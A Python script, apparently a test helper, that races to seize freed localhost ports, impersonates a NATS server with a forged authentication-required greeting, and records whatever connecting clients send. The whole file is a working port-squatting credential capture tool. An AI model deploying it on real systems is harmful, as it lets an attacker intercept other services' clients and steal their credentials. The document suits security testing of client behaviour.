"""Waits for ports to be free, takes them, greets as NATS does, and keeps what it is told.

`python thief.py FOLDER [UID] PORT...`: FOLDER/taken-PORT appears with the port, FOLDER/told-PORT
has what came. It tries every half millisecond, with all that makes the taking easier.
"""

import json
import os
import socket
import sys
import threading
import time
from pathlib import Path

INFO = {"server_id": "X", "version": "2.15.1", "max_payload": 1 << 20, "headers": True}
GREETING = f"INFO {json.dumps({**INFO, 'auth_required': True, 'nonce': 'abc'})}\r\n".encode()


def main() -> None:
    folder, uid, *ports = sys.argv[1:]
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(int(uid), int(uid), int(uid))
        os.setresuid(int(uid), int(uid), int(uid))
    for port in ports:
        threading.Thread(target=steal, args=(Path(folder), int(port))).start()


def steal(folder: Path, port: int) -> None:
    with taken(port) as listener:
        (folder / f"taken-{port}").touch()
        while True:
            caller, _ = listener.accept()
            threading.Thread(target=listen, args=(folder, port, caller)).start()


def taken(port: int) -> socket.socket:
    while True:
        mine = socket.socket()
        mine.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            mine.bind(("127.0.0.1", port))
            mine.listen()
        except OSError:
            mine.close()
            time.sleep(0.0005)
        else:
            return mine


def listen(folder: Path, port: int, caller: socket.socket) -> None:
    caller.sendall(GREETING)
    while data := caller.recv(1 << 16):
        with (folder / f"told-{port}").open("ab") as told:
            told.write(data)


if __name__ == "__main__":
    main()
